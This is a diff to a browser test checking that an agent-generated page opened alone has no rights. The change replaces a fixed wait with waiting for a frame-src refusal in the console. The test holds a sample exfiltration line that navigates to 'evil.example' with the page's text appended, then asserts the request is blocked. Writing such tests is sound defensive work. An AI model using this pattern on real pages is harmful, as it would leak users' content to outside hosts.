@@ -151,9 +151,9 @@ test('a page the agent made runs without any rights', { skip }, async () => {
   assert.doesNotMatch(await alone.locator('#o').innerText(), /cookie|storage|fetch/, 'opened alone it has no rights either');
   let left = 0;
   await page.route('https://evil.example/**', (r) => { left += 1; return r.abort(); });
+  const refused = page.waitForEvent('console', (m) => /frame-src/.test(m.text()));
   await alone.locator('#o').evaluate(() => { location.href = 'https://evil.example/?' + document.body.innerText; });
-  await page.waitForFunction(() => true);
-  await page.waitForTimeout(300);
+  await refused;
   assert.equal(left, 0, 'opened alone it takes its content nowhere');
   page.wrong.length = 0; // the browser says what it refused
   page.on('dialog', (d) => { page.wrong.push('dialog'); d.dismiss(); });
